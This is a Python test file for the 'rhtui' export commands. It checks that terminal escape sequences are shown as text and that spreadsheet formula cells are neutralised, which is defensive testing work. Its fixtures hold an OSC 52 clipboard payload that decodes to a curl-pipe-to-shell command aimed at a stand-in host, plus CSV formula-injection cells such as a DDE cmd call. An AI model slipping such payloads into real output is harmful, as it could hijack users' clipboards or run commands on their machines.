"""Untrusted text in exports: a server's error text and a model's proposal may carry escape
sequences (OSC 52 clipboard writes, clear-screen, BEL) and a cell may look like a spreadsheet
formula. Every export format shows escapes as text; CSV cells that a spreadsheet would read as a
formula start with `'` (OWASP's advice). Writing to a full device is a message, not a traceback."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import subprocess
import sys

import pytest
from typer.testing import CliRunner

from rhtui.commands.cli import app
from rhtui.engine.records import RunRecord
from rhtui.engine.sanitize import csv_cell
from rhtui.engine.store import Store

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
CLEAR = "\x1b[2J\x1b[H"
BEL = "\x07"
ERROR_TEXT = f"runner failed {OSC52}{CLEAR}{BEL} done"
CONTROLS = ("\x1b", "\x07", "\x9b", "\r")

# (reason, error) cells a spreadsheet would run as formulas
FORMULAS = ["=HYPERLINK(\"http://x.example\",\"click\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
            "\uff1d1+1"]


def _fill(db_path) -> None:
    async def go() -> None:
        store = await Store.open(db_path)
        try:
            sid = await store.start_session("hostile", 1_700_000_000.0, {})
            await store.start_cycle(sid, 1, 1_700_000_000.0)
            for i, formula in enumerate(FORMULAS):
                await store.record_run(RunRecord(
                    session_id=sid, cycle=1, student=f"rh-s{i}", model="rh-alpha", status="error",
                    started_at=1_700_000_000.0 + i, ended_at=1_700_000_001.0 + i, reason=formula, error=ERROR_TEXT,
                ))
            await store.record_run(RunRecord(
                session_id=sid, cycle=1, student="rh-alpha", model="=cmd|' /C calc'!A0", status="ok",
                started_at=1_700_000_100.0, ended_at=1_700_000_130.0, tokens=12, total_s=-3.5,
                proposal=f"## A proposal\n\nwith {OSC52} and {CLEAR} inside{BEL}\n",
            ))
            await store.flush()
        finally:
            await store.close()

    asyncio.run(go())


@pytest.fixture
def data_dir(tmp_path):
    d = tmp_path / "data"
    d.mkdir()
    _fill(d / "rhtui.db")
    return d


def _export(data_dir, *args: str) -> str:
    r = CliRunner().invoke(app, ["export", *args, "--data-dir", str(data_dir)])
    assert r.exit_code == 0, r.output
    return r.stdout


def test_csv_export_shows_escapes_as_text_and_neutralises_formulas(data_dir):
    out = _export(data_dir, "runs")
    assert not any(c in out.replace("\r\n", "\n") for c in CONTROLS), repr(out[:400])
    rows = list(csv.DictReader(io.StringIO(out)))
    errors = [r for r in rows if r["status"] == "error"]
    assert len(errors) == len(FORMULAS)
    for row in errors:
        assert row["error"] == "runner failed ^[]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==^G^[[2J^[[H^G done"
        # never a formula: prefixed, or (a carriage return) shown as ^M
        assert row["reason"].startswith(("'", "^M")), row["reason"]
    reasons = {r["reason"] for r in errors}
    assert "'=HYPERLINK(\"http://x.example\",\"click\")" in reasons and "'-2+3" in reasons and "'@SUM(A1)" in reasons
    assert {"'+1+1", "'\t=1", "^M=1", "'\uff1d1+1"} <= reasons
    ok = next(r for r in rows if r["status"] == "ok")
    assert ok["model"] == "'=cmd|' /C calc'!A0"
    assert ok["total_s"] == "-3.5"  # a negative number is a number, not a formula


def test_json_and_jsonl_exports_carry_no_escape(data_dir):
    rows = json.loads(_export(data_dir, "runs", "--format", "json"))
    for row in rows:
        for value in row.values():
            assert not (isinstance(value, str) and any(c in value for c in CONTROLS)), value
    assert rows[0]["error"].startswith("runner failed ^[]52;")
    lines = _export(data_dir, "proposals").splitlines()
    assert len(lines) == 1
    p = json.loads(lines[0])
    assert p["proposal"].startswith("## A proposal\n\nwith ^[]52;c;") and "\x1b" not in p["proposal"]
    assert p["proposal"].endswith("inside^G\n")  # newlines are kept
    assert "\\u001b" not in lines[0] and "\\u0007" not in lines[0]


def test_csv_cell():
    assert [csv_cell(v) for v in ("=1", "+1", "-1", "@a", "\tx", "a=b", "", None, -1.5, 3)] == [
        "'=1", "'+1", "'-1", "'@a", "'\tx", "a=b", "", None, -1.5, 3]


def test_export_to_a_full_device_is_a_message(data_dir, tmp_path):
    if not os.path.exists("/dev/full"):
        pytest.skip("no /dev/full on this system")
    env = {k: v for k, v in os.environ.items() if not k.startswith("RHTUI_") and k != "OLLAMA_HOST"}
    env.update(XDG_CONFIG_HOME=str(tmp_path / "c"), NO_COLOR="1")
    for args in (["export", "runs"], ["export", "proposals"], ["report", "--format", "csv"]):
        with open("/dev/full", "w") as full:
            r = subprocess.run([sys.executable, "-m", "rhtui.commands.cli", *args, "--data-dir", str(data_dir)],
                               stdout=full, stderr=subprocess.PIPE, text=True, env=env, timeout=120)
        assert r.returncode == 1, r.stderr
        assert "could not write to standard output (/dev/full)" in r.stderr and "No space left" in r.stderr, r.stderr
        assert "Traceback" not in r.stderr and "Exception ignored" not in r.stderr, r.stderr
